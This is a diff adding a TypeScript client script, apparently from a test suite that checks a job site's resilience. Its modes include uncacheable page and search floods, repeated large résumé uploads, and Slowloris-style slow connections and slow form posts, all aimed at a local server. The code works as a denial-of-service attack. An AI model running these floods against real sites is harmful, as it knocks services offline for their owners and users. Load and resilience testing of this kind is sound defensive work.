@@ -1,0 +1,74 @@
+import { Agent, request } from 'node:https';
+import { setPriority } from 'node:os';
+import { connect } from 'node:tls';
+import { resumes } from '../support/resumes.ts';
+
+/**
+ * One client that takes what it can get, as a process of its own: `node oneClient.ts PORT ADDRESS ATTACK CONNECTIONS`. It says
+ * `begun` when its requests are under way, and on SIGTERM how many answers of each status it got.
+ */
+const [port, localAddress, attack = '', connections] = process.argv.slice(2);
+const HOST = 'www.example.com';
+const address = { host: '127.0.0.1', port: Number(port), localAddress, rejectUnauthorized: false };
+const PART = '--b\r\nContent-Disposition: form-data; name=';
+// An attacker does not use the processors of the site.
+setPriority(19);
+
+const statuses: Record<string, number> = {};
+const count = (status: string | number): void => void (statuses[status] = (statuses[status] ?? 0) + 1);
+
+/** What it asks for again and again: no two are alike, so no cache has the answer. */
+const paths: Record<string, (number: number) => string> = {
+  pages: (number) => `/job_alerts?x=${number}`,
+  searches: (number) => `/search?q=network+${number}`,
+  uploads: () => '/career-file-upload.php',
+};
+const UPLOAD = Buffer.concat([
+  Buffer.from(`${PART}"job_id"\r\n\r\n1\r\n`),
+  Buffer.from(`${PART}"resumefile"; filename="cv.pdf"\r\n\r\n`),
+  resumes.pdf,
+  Buffer.alloc(2_000_000),
+  Buffer.from('\r\n--b--\r\n'),
+]);
+const agent = new Agent({ keepAlive: true, maxSockets: Number(connections), servername: HOST });
+let number = 0;
+const askAgain = (pathOf: (number: number) => string): void => {
+  const path = pathOf((number += 1));
+  const type = 'multipart/form-data; boundary=b';
+  const sent = attack === 'uploads' ? { method: 'POST', headers: { host: HOST, 'content-type': type } } : {};
+  const asked = request({ ...address, headers: { host: HOST }, ...sent, agent, path }, (answer) => {
+    count(answer.statusCode ?? 0);
+    answer.resume().on('close', () => askAgain(pathOf));
+  });
+  asked.on('error', (error: NodeJS.ErrnoException) => {
+    count(error.code ?? error.message);
+    setTimeout(() => askAgain(pathOf), 50);
+  });
+  asked.end(attack === 'uploads' ? UPLOAD : undefined);
+};
+
+/** A form that is never ended, a letter at a time, or a connection on which nothing is asked. */
+const hold = (beginning: string): void => {
+  let trickle: NodeJS.Timeout | undefined;
+  const socket = connect(address, () => {
+    if (!beginning) return;
+    socket.write(beginning);
+    trickle = setInterval(() => void socket.write('x'), 1000);
+  });
+  socket.setEncoding('latin1').on('data', (text: string) => count(text.slice(9, 12)));
+  socket.on('error', (error: NodeJS.ErrnoException) => count(error.code ?? error.message));
+  socket.on('close', () => {
+    clearInterval(trickle);
+    setTimeout(() => hold(beginning), 200);
+  });
+};
+const SLOW_FORM =
+  `POST /career-details/1 HTTP/1.1\r\nHost: ${HOST}\r\nContent-Type: multipart/form-data; boundary=b\r\n` +
+  `Content-Length: 889000\r\n\r\n${PART}"cover_letter"\r\n\r\n${'x'.repeat(200_000)}`;
+
+const pathOf = paths[attack];
+for (let at = 0; at < Number(connections); at += 1)
+  if (pathOf) askAgain(pathOf);
+  else hold(attack === 'slow forms' ? SLOW_FORM : '');
+setTimeout(() => process.stdout.write('begun\n'), 1000);
+process.on('SIGTERM', () => process.stdout.write(JSON.stringify(statuses), () => process.exit(0)));
